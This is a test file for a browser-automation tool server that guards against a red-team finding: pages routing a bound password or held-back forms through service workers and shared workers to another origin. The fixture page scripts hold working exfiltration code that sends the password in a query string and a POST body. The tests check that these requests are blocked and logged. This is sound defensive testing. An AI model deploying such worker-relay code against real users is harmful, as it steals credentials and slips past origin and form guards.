/**
 * The navigation guard in service workers and shared workers (red team s14 #1): a page hands a
 * bound secret, or a form it stopped itself, to its service worker or a shared worker, whose
 * fetch sends it on. Before the fix those requests met no guard: the secret reached another
 * origin in clear, an undeclared form (also one to an origin off the allowlist) was sent, the
 * result said ok and no log listed the request. Now a service worker's requests are stopped like
 * the page's own, a declared form it sends is listed in `network.mutations` and `network_read`,
 * and a shared worker (whose requests Chromium cannot hold for sure) never runs while secrets
 * are bound or an allowlist limits origins.
 */
import { assertEquals, assertIncludes, assertTrue } from "./_assert.ts";
import { startWithBoundSecret } from "./_bound_secret.ts";
import { startStdio, textOf, type ToolResult } from "./_mcp.ts";
import { startTwoOrigins } from "./_two_origins.ts";
import { eventually } from "./_util.ts";

const SECRET = "Hunter2SecretXyz";
type R = Record<string, unknown>;

/** What both workers do with a message: fetch `url` (a POST when `body`), then `done`. */
const HANDLE = `async function handle(d) {
  const init = d.body === undefined ? {} : {
    method: "POST", mode: "no-cors", body: d.body,
    headers: { "content-type": "application/x-www-form-urlencoded" },
  };
  await fetch(d.url, init).catch(() => {});
  if (d.done) await fetch(d.done).catch(() => {});
}`;

/** Served as JavaScript by `startTwoOrigins` (the `.js` paths). */
const WORKERS = {
  "/sw.js": `${HANDLE}
self.oninstall = () => self.skipWaiting();
self.onactivate = (e) => e.waitUntil(clients.claim());
self.onmessage = (e) => handle(e.data);`,
  "/shw.js": `${HANDLE}
onconnect = (e) => { e.ports[0].onmessage = (m) => handle(m.data); };`,
};

/**
 * The page: a service worker and a shared worker, each told what to fetch (`tell(which, d)`);
 * its title reads "ready" once the service worker is active and the shared worker answered.
 */
function page(body: string, script: string): string {
  return `<title>loading</title>${body}<script>
const shared = new SharedWorker("/shw.js");
shared.onerror = () => fetch("/shared-refused");
let sw;
const tell = (which, d) => which === "sw" ? sw.postMessage(d) : shared.port.postMessage(d);
navigator.serviceWorker.register("/sw.js").then(() => navigator.serviceWorker.ready)
  .then((r) => { sw = r.active; document.title = "ready"; });
${script}</script>`;
}

/** Waits until the page's workers are running (its title says so). */
async function ready(mcp: { ok(n: string, a?: R): Promise<R> }): Promise<void> {
  await eventually(async () => (await mcp.ok("get_url")).title === "ready", 10_000, "workers");
}

Deno.test("worker guard: a bound secret a worker sends elsewhere is stopped", async () => {
  const srv = startTwoOrigins((_a, b) => ({
    ...WORKERS,
    "/login": page(
      `<label>Password <input id=pw type=password></label>`,
      `pw.addEventListener("input", () => {
  if (pw.value.length < ${SECRET.length}) return;
  for (const w of ["sw", "shared"]) {
    tell(w, { url: "${b}/x/" + w + "?" + pw.value, done: "${b}/alive/" + w });
    tell(w, { url: "${b}/y/" + w, body: "p=" + encodeURIComponent(pw.value), done: "${b}/alive2/" + w });
  }
});`,
    ),
  }));
  const { mcp, close } = await startWithBoundSecret(srv.a, SECRET);
  try {
    await mcp.ok("navigate", { url: `${srv.a}/login`, snapshot: "none" });
    await ready(mcp);
    await mcp.call("fill", { selector: "#pw", value: "{{secret:PW}}", snapshot: "none" });
    // The service worker ran both tries (what it sends after them arrives); the shared worker,
    // refused under this policy, never ran (its page heard so).
    await eventually(
      () => srv.seen("B").includes("GET /alive/sw") && srv.seen("B").includes("GET /alive2/sw"),
      10_000,
      "the service worker's tries",
    );
    await eventually(() => srv.seen("A").includes("GET /shared-refused"), 5000, "the refusal");
    assertEquals(srv.seen("B").filter((p) => p.includes("shared")), []);
    const leaked = srv.hits.filter((h) => h.path.includes("Hunter2") || h.body.includes("Hunter2"));
    assertEquals(leaked, [], "no request carried the value to B");
    // The stop is told: the fill's network lists it, or the next call's sinceLastCall says it.
    const next = textOf(await mcp.call("get_url"));
    const logged = textOf(await mcp.call("network_read", {}));
    assertIncludes(logged, "blocked by policy", "network_read lists the stopped requests");
    assertTrue(!logged.includes(SECRET) && !next.includes(SECRET), "the value is not shown");
  } finally {
    await close();
    await srv.close();
  }
});

Deno.test("worker guard: a form a worker sends is held like the page's own", async (t) => {
  const srv = startTwoOrigins((_a, b) => ({
    ...WORKERS,
    "/": page(
      `<form id=f action=/order method=post><input name=item value=tv><button id=buy>Buy</button></form>` +
        `<form id=g action=/order2 method=post><input name=item value=phone><button id=buy2>Buy</button></form>` +
        `<form id=h action=/order3 method=post><input name=item value=car><button id=buy3>Buy</button></form>`,
      `const body = (form) => new URLSearchParams(new FormData(form)).toString();
f.addEventListener("submit", (e) => { e.preventDefault(); tell("sw", { url: "/order-sw", body: body(f) }); });
g.addEventListener("submit", (e) => { e.preventDefault(); tell("shared", { url: "/order-shared", body: body(g) }); });
h.addEventListener("submit", (e) => { e.preventDefault(); tell("sw", { url: "${b}/offlist-sw", body: body(h) }); });`,
    ),
  }));
  const mcp = await startStdio({
    env: { BROWX_ALLOWED_ORIGINS: srv.a, BROWX_CAPABILITIES: "read,navigation,action" },
  });
  const refused = (r: ToolResult, rule: string) => {
    assertEquals(r.isError, true, textOf(r));
    assertEquals((r.structuredContent!.error as R).code, "blocked-by-policy", textOf(r));
    assertEquals((r.structuredContent!.policy as R).rule, rule, textOf(r));
  };
  const posts = () => srv.hits.filter((h) => h.method === "POST").map((h) => h.path);
  try {
    await mcp.ok("navigate", { url: `${srv.a}/`, snapshot: "none" });
    await ready(mcp);

    await t.step("undeclared, via the service worker: refused, not sent", async () => {
      refused(await mcp.call("click", { selector: "#buy", snapshot: "none" }), "undeclared-submit");
      assertEquals(posts(), []);
    });
    await t.step("via the shared worker: it never ran, nothing is sent", async () => {
      // Refused as it started (this policy needs the guard): the page heard an error.
      assertTrue(srv.seen("A").includes("GET /shared-refused"), srv.seen("A").join(", "));
      await mcp.ok("click", { selector: "#buy2", submits: true, snapshot: "none" });
      assertEquals(posts(), []);
    });
    await t.step("declared, via a worker to an origin off the allowlist: refused", async () => {
      const r = await mcp.call("click", { selector: "#buy3", submits: true, snapshot: "none" });
      refused(r, "form-target");
      assertEquals(srv.seen("B"), []);
    });
    await t.step("declared, on the allowlist: sent, and listed as the call's write", async () => {
      const r = await mcp.call("click", { selector: "#buy", submits: true, snapshot: "none" });
      assertEquals(r.isError, undefined, textOf(r));
      await eventually(() => posts().includes("/order-sw"), 5000, "the declared form");
      const network = r.structuredContent!.network as { mutations?: Array<R> } | undefined;
      assertEquals(network?.mutations?.map((m) => [m.method, m.urlPattern]), [
        ["POST", `${srv.a}/order-sw`],
      ], textOf(r));
      assertIncludes(textOf(await mcp.call("network_read", {})), "/order-sw");
    });
  } finally {
    await mcp.close();
    await srv.close();
  }
});
